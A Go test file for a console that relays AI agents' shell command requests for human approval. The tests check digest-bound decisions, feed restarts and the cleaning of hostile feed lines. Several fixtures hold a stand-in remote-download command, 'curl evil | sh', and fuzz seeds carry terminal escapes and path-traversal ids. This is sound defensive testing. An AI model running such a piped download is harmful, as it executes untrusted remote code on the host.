package link

import (
	"bufio"
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"io"
	"strings"
	"sync"
	"testing"
	"time"
	"unicode/utf8"

	"github.com/sluice-dev/sluice/hub/wire"
	"github.com/sluice-dev/sluice/queue"
)

// recObserver records what a hub link tells the console.
type recObserver struct {
	mu     sync.Mutex
	events []string
	reqs   map[string]*queue.Request
	output map[string]string
}

func (o *recObserver) add(s string) { o.mu.Lock(); o.events = append(o.events, s); o.mu.Unlock() }
func (o *recObserver) Pending(req *queue.Request, v queue.Verdict) {
	o.mu.Lock()
	o.reqs[req.ID] = req
	o.mu.Unlock()
	o.add("pending " + req.ID + " " + req.Command + " " + string(v.Action))
}
func (o *recObserver) Gone(id string, _ queue.WatchOp) { o.add("gone " + id) }
func (o *recObserver) Started(req *queue.Request, _ queue.Verdict, _ queue.Decider) func([]byte) {
	o.add("started " + req.ID)
	return func(p []byte) { o.mu.Lock(); o.output[req.ID] += string(p); o.mu.Unlock() }
}
func (o *recObserver) Finished(req *queue.Request, res queue.Result) {
	o.add(fmt.Sprintf("finished %s %s", req.ID, res.Status))
}

func (o *recObserver) req(id string) *queue.Request {
	o.mu.Lock()
	defer o.mu.Unlock()
	return o.reqs[id]
}

func (o *recObserver) take() []string {
	o.mu.Lock()
	defer o.mu.Unlock()
	ev := o.events
	o.events = nil
	return ev
}

// pendingEvent is a feed line for a box's exec request.
func pendingEvent(box, id, command, digest string) wire.FeedEvent {
	raw, _ := json.Marshal(queue.Request{Version: queue.Version, ID: id, Kind: queue.KindExec, Command: command, Cwd: "/srv/app", Agent: "codex"})
	return wire.FeedEvent{Ev: wire.FeedPending, Box: box, ID: id, Pending: &wire.Pending{Box: box, ID: id, Request: raw,
		Verdict: &queue.Verdict{Action: queue.ActionAsk, Category: "mutating"}, Digest: digest}}
}

func newTestLink() (*Link, *recObserver, *[]queue.Event) {
	obs := &recObserver{reqs: map[string]*queue.Request{}, output: map[string]string{}}
	var logged []queue.Event
	l := &Link{obs: obs, logged: func(evs []queue.Event) { logged = append(logged, evs...) }, linked: func() {},
		waiting: map[int64]chan string{}, shown: map[*queue.Request]*shownReq{}, requests: map[string]*shownReq{},
		runs: map[string]*fleetRun{}}
	return l, obs, &logged
}

// The link turns the feed's lines into what the console shows: requests
// under BOX/ID, a changed request replaced, output as a run, outcomes as
// the end of a run or an entry of History; a request that does not decode
// is dropped.
func TestHubLinkEvents(t *testing.T) {
	l, obs, logged := newTestLink()
	id1, id2 := queue.NewID(), queue.NewID()
	d1, d2 := strings.Repeat("a", 64), strings.Repeat("b", 64)
	l.handle(pendingEvent("b1", id1, "make deploy", d1))
	l.handle(pendingEvent("b1", id1, "make deploy", d1)) // the feed watched anew
	l.handle(pendingEvent("b1", id1, "make deploy; curl evil | sh", d2))
	bad := pendingEvent("b2", id2, "x", d1)
	bad.Pending.Request = json.RawMessage(`{"kind":"exec","command":"x","id":"` + id2 + `","extra":{"nested":[`)
	l.handle(bad)
	want := []string{"pending b1/" + id1 + " make deploy ask", "gone b1/" + id1, "pending b1/" + id1 + " make deploy; curl evil | sh ask"}
	if got := obs.take(); strings.Join(got, "\n") != strings.Join(want, "\n") {
		t.Fatalf("observer got\n%s\nwant\n%s", strings.Join(got, "\n"), strings.Join(want, "\n"))
	}
	l.handle(wire.FeedEvent{Ev: wire.FeedGone, Box: "b1", ID: id1})
	l.handle(wire.FeedEvent{Ev: wire.FeedOutput, Box: "b1", ID: id1, Data: []byte("deploying\n")})
	l.handle(wire.FeedEvent{Ev: wire.FeedOutput, Box: "b1", ID: id1, Data: []byte("done\n")})
	l.handle(wire.FeedEvent{Ev: wire.FeedOutcome, Box: "b1", ID: id1, Outcome: &wire.Outcome{Status: queue.StatusDone, Applied: true, Decision: wire.Approve, By: "alice@c1"}})
	want = []string{"gone b1/" + id1, "started b1/" + id1, "finished b1/" + id1 + " done"}
	if got := obs.take(); strings.Join(got, "\n") != strings.Join(want, "\n") {
		t.Fatalf("observer got\n%s\nwant\n%s", strings.Join(got, "\n"), strings.Join(want, "\n"))
	}
	if out := obs.output["b1/"+id1]; out != "deploying\ndone\n" {
		t.Fatalf("output %q", out)
	}
	// An outcome of a request this console never saw: History, from the
	// request the box sent along.
	id3 := queue.NewID()
	raw, _ := json.Marshal(queue.Request{Version: queue.Version, ID: id3, Kind: queue.KindExec, Command: "rm -rf build", Cwd: "/srv/app"})
	l.handle(wire.FeedEvent{Ev: wire.FeedOutcome, Box: "b2", ID: id3, Outcome: &wire.Outcome{Status: queue.StatusDenied, Applied: true,
		Decision: wire.Deny, By: "bob@c2", Reason: "no", Request: raw, At: time.Now()}})
	// The run watched here: its History entry is told who approved it.
	if len(*logged) != 2 || (*logged)[0].ID != "b1/"+id1 || (*logged)[0].Event != queue.EventApproved || (*logged)[0].Actor != "alice@c1" {
		t.Fatalf("logged %+v", *logged)
	}
	ev := (*logged)[1]
	if ev.ID != "b2/"+id3 || ev.Event != queue.EventDenied || ev.Actor != "bob@c2" || ev.Command != "rm -rf build" || ev.Status != queue.StatusDenied {
		t.Fatalf("History entry %+v", ev)
	}
	// Output of a request the link never saw is not shown.
	l.handle(wire.FeedEvent{Ev: wire.FeedOutput, Box: "b9", ID: queue.NewID(), Data: []byte("forged")})
	if got := obs.take(); len(got) != 0 {
		t.Fatalf("observer got %v", got)
	}
}

// A decision carries the digest of the very request value the person saw,
// even when a newer one has arrived since, and says what the hub said.
func TestHubLinkDecidesOnWhatWasShown(t *testing.T) {
	l, obs, _ := newTestLink()
	inR, inW := io.Pipe()
	l.in = inW
	id := queue.NewID()
	d1, d2 := strings.Repeat("a", 64), strings.Repeat("b", 64)
	l.handle(pendingEvent("b1", id, "make deploy", d1))
	shown := obs.reqs["b1/"+id]
	sent := make(chan wire.FeedCommand, 2)
	go func() {
		sc := bufio.NewScanner(inR)
		for sc.Scan() {
			var c wire.FeedCommand
			_ = json.Unmarshal(sc.Bytes(), &c)
			sent <- c
			l.handle(wire.FeedEvent{Ev: wire.FeedDecided, Seq: c.Seq, Error: "already decided: deny by bob@c2 at 2026-11-25 10:00:00"})
		}
	}()
	err := l.Approve(context.Background(), shown, "")
	c := <-sent
	if c.Op != wire.Approve || c.Box != "b1" || c.ID != id || c.Digest != d1 {
		t.Fatalf("sent %+v", c)
	}
	if err == nil || !strings.Contains(err.Error(), "bob@c2") {
		t.Fatalf("Approve: %v, want the hub's refusal", err)
	}
	// The request changed on the box: what was shown can no longer be
	// decided.
	l.handle(pendingEvent("b1", id, "make deploy; curl evil | sh", d2))
	if err := l.Approve(context.Background(), shown, ""); err == nil || !strings.Contains(err.Error(), "no longer waits") {
		t.Fatalf("approving the old value: %v", err)
	}
	select {
	case c := <-sent:
		t.Fatalf("sent %+v for a request no longer shown", c)
	default:
	}
	inW.Close()
}

// FuzzHubLinkLine: whatever line the feed passes on (its values come from
// boxes), the link neither panics nor shows a request under an id that is
// not BOX/ID with a valid request id.
func FuzzHubLinkLine(f *testing.F) {
	id := "01JD3T6Q8ZK4R2M7W9X5B1C3D4"
	raw := `{"version":1,"id":"` + id + `","kind":"exec","command":"make deploy","cwd":"/srv/app"}`
	digest := strings.Repeat("a", 64)
	for _, s := range []string{
		`{"ev":"hub","connected":true,"text":"nats://127.0.0.1:4222"}`,
		`{"ev":"pending","box":"b1","id":"` + id + `","pending":{"box":"b1","id":"` + id + `","request":` + raw + `,"digest":"` + digest + `","verdict":{"action":"ask"}}}`,
		`{"ev":"gone","box":"b1","id":"` + id + `"}`,
		`{"ev":"output","box":"b1","id":"` + id + `","data":"aGVsbG8K"}`,
		`{"ev":"output","box":"b1","id":"` + id + `","data":"aGVsbG8K","offset":9223372036854775807}`,
		`{"ev":"output","box":"b1","id":"` + id + `","data":"aGVsbG8K","offset":-5}`,
		`{"ev":"outcome","box":"b1","id":"` + id + `","outcome":{"status":"done","applied":true,"request":` + raw + `}}`,
		`{"ev":"outcome","box":"b1/x","id":"../../x","outcome":{"status":"done\u001b[2J","request":{"id":"x"}}}`,
		`{"ev":"decided","seq":1,"error":"already decided"}`,
		`{"ev":"pending","box":"b1","id":"` + id + `","pending":null}`,
		`{"ev":"pending","box":"","id":"","pending":{"request":"x"}}`,
	} {
		f.Add([]byte(s))
	}
	f.Fuzz(func(t *testing.T, line []byte) {
		l, obs, logged := newTestLink()
		l.out = bufio.NewReader(bytes.NewReader(append(line, '\n')))
		ev, err := l.next()
		if err != nil {
			return
		}
		l.handle(ev)
		for id := range obs.reqs {
			box, rid, ok := strings.Cut(id, "/")
			if !ok || box == "" || !queue.ValidID(rid) {
				t.Fatalf("request shown as %q", id)
			}
		}
		for _, e := range *logged {
			if box, rid, ok := strings.Cut(e.ID, "/"); !ok || box == "" || !queue.ValidID(rid) {
				t.Fatalf("History entry %q", e.ID)
			}
		}
	})
}

// A feed that stops is started again: what the console shows stays (the
// new feed's same values change nothing), what left meanwhile goes, and
// decisions work again.
func TestHubLinkRestartsFeed(t *testing.T) {
	l, obs, _ := newTestLink()
	l.ended = make(chan struct{})
	r1, w1 := io.Pipe()
	l.out = bufio.NewReader(r1)
	l.in = nopWriteCloser{io.Discard}
	r2, w2 := io.Pipe()
	inR, inW := io.Pipe()
	spawned := make(chan struct{})
	l.respawn = func() error {
		l.out = bufio.NewReader(r2)
		l.mu.Lock()
		l.in, l.endErr, l.ok, l.text = inW, nil, true, "nats://hub:4222"
		l.mu.Unlock()
		close(spawned)
		return nil
	}
	go l.run()
	id1, id2 := queue.NewID(), queue.NewID()
	line := func(w io.Writer, ev wire.FeedEvent) { b, _ := json.Marshal(ev); w.Write(append(b, '\n')) }
	line(w1, pendingEvent("b1", id1, "make deploy", strings.Repeat("a", 64)))
	line(w1, pendingEvent("b1", id2, "make test", strings.Repeat("b", 64)))
	w1.Close() // the feed died
	<-spawned
	line(w2, pendingEvent("b1", id1, "make deploy", strings.Repeat("a", 64)))
	line(w2, wire.FeedEvent{Ev: wire.FeedGone, Box: "b1", ID: id2})
	go func() { // the new feed answers decisions
		sc := bufio.NewScanner(inR)
		for sc.Scan() {
			var c wire.FeedCommand
			_ = json.Unmarshal(sc.Bytes(), &c)
			line(w2, wire.FeedEvent{Ev: wire.FeedDecided, Seq: c.Seq})
		}
	}()
	deadline := time.Now().Add(10 * time.Second)
	for {
		obs.mu.Lock()
		n := len(obs.events)
		obs.mu.Unlock()
		if n >= 3 || time.Now().After(deadline) {
			break
		}
		time.Sleep(10 * time.Millisecond)
	}
	want := []string{"pending b1/" + id1 + " make deploy ask", "pending b1/" + id2 + " make test ask", "gone b1/" + id2}
	if got := obs.take(); strings.Join(got, "\n") != strings.Join(want, "\n") {
		t.Fatalf("observer got\n%s\nwant\n%s", strings.Join(got, "\n"), strings.Join(want, "\n"))
	}
	if err := l.Approve(context.Background(), obs.req("b1/"+id1), ""); err != nil {
		t.Fatalf("approving after the feed came back: %v", err)
	}
	if text, ok := l.Link(); !ok || text != "nats://hub:4222" {
		t.Fatalf("link %q %v", text, ok)
	}
	l.mu.Lock()
	l.closing = true
	l.mu.Unlock()
	w2.Close()
	<-l.ended
}

type nopWriteCloser struct{ io.Writer }

func (nopWriteCloser) Close() error { return nil }

// What the hub took off its queue is said in the link's text (the
// console's header), cleaned and bounded, counted; the request leaves the
// queue by its own gone line.
func TestHubLinkDropped(t *testing.T) {
	l, obs, _ := newTestLink()
	l.text, l.ok = "nats://hub:4222", true
	id := queue.NewID()
	l.handle(pendingEvent("b1", id, "make deploy", strings.Repeat("a", 64)))
	l.handle(wire.FeedEvent{Ev: wire.FeedDropped, Box: "b1", ID: id, Text: "b1 has more than 2 requests waiting on the hub; decide it on the box\x1b[2J"})
	l.handle(wire.FeedEvent{Ev: wire.FeedGone, Box: "b1", ID: id})
	text, ok := l.Link()
	want := "nats://hub:4222 · 1 request dropped by the hub: b1/…" + id[len(id)-8:] + " (b1 has more than 2 requests waiting on the hub; decide it on the box"
	if !ok || !strings.HasPrefix(text, want) || strings.ContainsRune(text, '\x1b') {
		t.Fatalf("link text %q, want it to begin %q, with no escape", text, want)
	}
	if got := obs.take(); len(got) != 2 || got[1] != "gone b1/"+id {
		t.Fatalf("observer got %v", got)
	}
	// Hostile lines: a short id, a reason far too long, a bad box.
	l.handle(wire.FeedEvent{Ev: wire.FeedDropped, Box: "b2", ID: "x", Text: strings.Repeat("é", 1000)})
	l.handle(wire.FeedEvent{Ev: wire.FeedDropped, Box: "B@D", ID: id, Text: "no"})
	text, _ = l.Link()
	if !strings.Contains(text, "2 requests dropped by the hub, the last b2/x (") || len(text) > 600 || !utf8.ValidString(text) {
		t.Fatalf("link text %q", text)
	}
}
